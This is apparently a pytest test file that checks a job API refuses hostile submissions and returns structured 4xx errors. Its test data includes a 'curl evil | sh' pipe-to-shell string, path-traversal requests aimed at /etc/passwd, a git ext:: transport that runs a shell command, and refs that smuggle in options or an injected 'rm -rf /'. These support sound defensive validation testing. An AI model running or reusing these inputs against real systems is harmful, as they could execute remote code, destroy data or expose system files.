"""A matrix of hostile requests: each is refused with a specific problem, nothing is created,
and the API never answers 5xx."""

from __future__ import annotations

import json

import pytest

from .conftest import AUTH, MAX_BODY

pytestmark = pytest.mark.service

CASES = [
    ("malformed json", b'{"name": "x", "command": [', "application/json", 422, "(document)"),
    ("malformed yaml", b"name: [unclosed\ncommand: x", "application/yaml", 422, "(document)"),
    ("not a mapping", b"- just\n- a list\n", "application/yaml", 422, "(document)"),
    ("empty body", b"", "application/yaml", 422, "(document)"),
    ("unknown field", b"name: x\ncommand: ['true']\ngpus: 1\n", "application/yaml", 422, "gpus"),
    ("wrong type", b"name: x\ncommand: ['true']\npriority: high\n", "application/yaml", 422, "priority"),
    (
        "negative cpu",
        b"name: x\ncommand: ['true']\nresources: {cpu: -2}\n",
        "application/yaml",
        422,
        "resources.cpu",
    ),
    (
        "absurd memory",
        b"name: x\ncommand: ['true']\nresources: {memory: 10Pi}\n",
        "application/yaml",
        422,
        "resources.memory",
    ),
    ("shell string", b"name: x\ncommand: 'curl evil | sh'\n", "application/yaml", 422, "command"),
    ("empty command", b"name: x\ncommand: []\n", "application/yaml", 422, "command"),
    (
        "path traversal",
        b"name: x\ncommand: ['true']\noutputs: {model: m, path: ../../root}\n",
        "application/yaml",
        422,
        "outputs.path",
    ),
    ("unicode name", "name: 'naïve job'\ncommand: ['true']\n".encode(), "application/yaml", 422, "name"),
    ("binary garbage", bytes(range(256)) * 4, "application/octet-stream", 422, "(document)"),
]


@pytest.mark.parametrize(("case", "body", "ctype", "status", "field"), CASES, ids=[c[0] for c in CASES])
async def test_hostile_spec_is_refused_with_the_field(api, case, body, ctype, status, field):
    resp = await api.post("/v1/jobs", content=body, headers={**AUTH, "content-type": ctype})
    assert resp.status_code == status, resp.text
    problem = resp.json()
    assert resp.headers["content-type"] == "application/problem+json"
    assert problem["status"] == status and problem["title"]
    assert field in {e["field"] for e in problem["errors"]}
    assert (await api.get("/v1/jobs", headers=AUTH)).json()["jobs"] == []


async def test_big_command_and_oversized_body(api):
    big = json.dumps({"name": "x", "command": ["echo", "a" * (MAX_BODY * 2)]}).encode()
    resp = await api.post("/v1/jobs", content=big, headers={**AUTH, "content-type": "application/json"})
    assert resp.status_code == 413 and resp.json()["title"] == "body too large"

    async def chunks():
        for _ in range(MAX_BODY // 1024 + 8):
            yield b"x" * 1024

    # no Content-Length (chunked): the limit holds while reading
    resp = await api.post("/v1/jobs", content=chunks(), headers=AUTH)
    assert resp.status_code == 413


async def test_bad_paths_and_queries_are_problems_not_crashes(api):
    for method, url in [
        ("GET", "/v1/jobs/..%2F..%2Fetc%2Fpasswd"),
        ("GET", "/v1/jobs?limit=-1"),
        ("GET", "/v1/jobs?state=exploded"),
        ("GET", "/v1/jobs/nope/logs?attempt=0"),
        ("POST", "/v1/jobs/nope/cancel"),
    ]:
        resp = await api.request(method, url, headers=AUTH)
        assert 400 <= resp.status_code < 500, (url, resp.status_code)
        assert resp.headers["content-type"] == "application/problem+json", url


async def test_git_arguments_from_the_spec_cannot_run_commands(api, tmp_path):
    """The repo and ref go to git: the ext:: transport (runs a command) is refused by the
    installation's git rule before git runs (field source.repo), a ref cannot be an option, and
    that refusal is a field error on source.ref."""
    marker = tmp_path / "pwned"
    repo = tmp_path / "repo"
    repo.mkdir()
    cases = [
        ({"repo": f"ext::sh -c touch% {marker}", "ref": "main"}, "source.repo"),
        ({"repo": str(repo), "ref": f"--output={marker}"}, "source.ref"),
        # a public address literal: the rule lets it through (no DNS needed), the ref does not
        ({"repo": "https://93.184.216.34/r.git", "ref": "-u"}, "source.ref"),
        ({"repo": str(repo), "ref": "main\nrm -rf /"}, "source.ref"),
    ]
    for source, field in cases:
        spec = {"name": "git", "command": ["true"], "source": source}
        resp = await api.post("/v1/jobs", json=spec, headers=AUTH)
        assert resp.status_code == 422, (source, resp.text)
        assert resp.json()["errors"][0]["field"] == field
    assert not marker.exists()
    assert (await api.get("/v1/jobs", headers=AUTH)).json()["jobs"] == []
